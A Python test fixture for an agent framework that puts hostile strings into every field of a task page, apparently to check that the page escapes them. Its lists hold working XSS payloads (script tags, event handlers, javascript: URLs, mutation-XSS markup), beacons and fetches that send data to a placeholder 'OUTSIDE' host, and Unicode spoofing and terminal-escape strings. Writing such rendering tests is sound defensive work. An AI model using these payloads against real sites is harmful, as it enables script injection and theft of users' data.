"""Texts that attack a page that shows them, and tasks with such a text in every place that a page shows.

Each text asks the server outside (`OUTSIDE`), sets `owned`, or opens a dialog if a page takes it for more than text.
The last ones change the order of letters or hide some.
"""

from __future__ import annotations

from treadle import Agent, File, Policy, Rule, Runner, RunOptions, ScriptedModel, ToolContext, tool
from treadle.llm.scripted import Turn, call, text, turn

RUN = "owned=1,fetch('http://OUTSIDE/ran'),alert(1)"

MARKUP = [
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</textarea></title></style><script>{RUN}</script>",
    '<script src="http://OUTSIDE/a.js"></script>',
    f'<img src=x onerror="{RUN}">',
    '<img src="http://OUTSIDE/pixel?words=secret">',
    f'"><img src=x onerror="{RUN}">',
    f'\'><svg onload="{RUN}">',
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    '<svg><use href="http://OUTSIDE/sprite.svg#a"/></svg>',
    f'<math><mtext></form><form><mglyph><style></math><img src onerror="{RUN}">',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    '<iframe src="http://OUTSIDE/frame"></iframe>',
    '<object data="http://OUTSIDE/object"></object>',
    '<embed src="http://OUTSIDE/embed">',
    '<link rel="stylesheet" href="http://OUTSIDE/style.css">',
    '<link rel="prefetch" href="http://OUTSIDE/prefetch">',
    '<style>@import "http://OUTSIDE/import.css";</style>',
    "<style>*{background:url(http://OUTSIDE/background)}</style>",
    '<p style="background-image:url(http://OUTSIDE/inline)">words</p>',
    '<base href="http://OUTSIDE/">',
    '<meta http-equiv="refresh" content="0;url=http://OUTSIDE/refresh">',
    f'<body onload="{RUN}">',
    f'<details open ontoggle="{RUN}">',
    f'<input autofocus onfocus="{RUN}">',
    f'<video><source onerror="{RUN}"></video>',
    f'<a href="javascript:{RUN}">a link</a>',
    '<form action="http://OUTSIDE/form"><input name=token></form>',
    f'<template><script>{RUN}</script></template><noscript><p title="</noscript><img src=x onerror={RUN}>">',
]
"""Texts that are markup of HTML."""

OTHERS = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}//",
    f"data:text/html,<script>{RUN}</script>",
    "![a picture](http://OUTSIDE/picture.png?words=secret)",
    f"[a link](javascript:{RUN})",
    "[![nested](http://OUTSIDE/nested.png)](http://OUTSIDE/link)",
    f"${{{RUN}}} {{{{constructor.constructor('{RUN}')()}}}}",
    '{"__proto__": {"html": "<img src=http://OUTSIDE/proto>"}, "dangerouslySetInnerHTML": {"__html": "<b>x</b>"}}',
    "\u202egnp.exe\u202c and \u2066\u2067reversed\u2069",
    "pay\u200b\u200d\u2060ment\ufeff to \u00ad\u180e\u061c\u200f account",
    "tags\U000e0041\U000e0042\U000e007f and \x1b[31mred\x1b[0m \x07\x08\x00 \x9b2J",
    "&lt;img src=x onerror=alert(1)&gt; &#x3c;script&#x3e; %3Cscript%3E",
    "#/t/../../inbox?sel=<b>x</b>&at=1e9",
]
"""Texts that are something else than markup."""

TEXTS = [*MARKUP, *OTHERS]

PEOPLE_LENGTH = 200
"""The most characters of a name of a person."""


def hostile_texts(outside: str) -> list[str]:
    """Return the texts, with the address of the server that they ask."""
    return [each.replace("OUTSIDE", outside) for each in TEXTS]


async def attack(runner: Runner, name: str, words: str) -> list[str]:
    """Make tasks with a hostile text in every place. Return their ids."""
    person, key = words[:PEOPLE_LENGTH], words.replace("\x00", "")[:60]

    @tool(read_only=True, name="echo", description=words or None)
    def echo(said: dict[str, str]) -> dict[str, object]:
        return {words: [words, {words: words}], "said": said}

    @tool(read_only=True)
    def fail(said: str) -> str:
        raise ValueError(words)

    @tool(read_only=True)
    def write(said: str) -> list[File]:
        return [
            File(data=b"bytes", name=words, media_type="text/html"),
            File(url=f"https://files.example/{key}"),
        ]

    @tool(undo=lambda done, ctx: None)
    def pay(said: str) -> str:
        return words

    @tool(preview=lambda said: words)
    def send(said: str) -> str:
        return words

    @tool(read_only=True)
    async def ask(said: str, ctx: ToolContext) -> str:
        return str(await ctx.ask(words, str))

    def said(*calls: Turn) -> Turn:
        return turn(words, list(calls), reasoning=words)

    script = [
        said(call("echo", said={words: words}), call("fail", said=words), call(key or "x", said=words)),
        said(call("pay", said=words), call("write", said=words)),
        said(call("send", said=words)),
        text(words),
    ]
    rule = Rule("hostile", "ask", tool="send", reason=words, approvers=[person, "ann"])
    everything = Agent(
        ScriptedModel(script),
        name="hostile",
        instructions=words,
        tools=[echo, fail, write, pay, send],
        policy=Policy(rule),
    )
    asking = Agent(ScriptedModel([said(call("ask", said=words))]), name="asking", tools=[ask])

    def breaks(request: object) -> Turn:
        raise RuntimeError(words)

    broken = Agent(ScriptedModel(breaks), name="broken")
    options = RunOptions(labels={"hostile": words[:100]})
    first, question, failed = f"{name}-tools", f"{name}-question", f"{name}-failed"
    task = await runner.create_task(everything, words, task_id=first, thread_id=name, options=options)
    await runner.run_step(task)
    await runner.run_step(task)
    await runner.undo_step(task, by=person)
    await runner.send(task, words, by=person)
    await runner.resume(task)
    fork = await runner.fork(
        task, at="s1", input=words, instructions=words, task_id=f"{name}-fork", by=person
    )
    await runner.pause(fork, reason=words, by=person)
    await runner.run(asking, words, task_id=question, options=options)
    await runner.run(broken, words, task_id=failed, options=options)
    return [first, fork.task_id, question, failed]
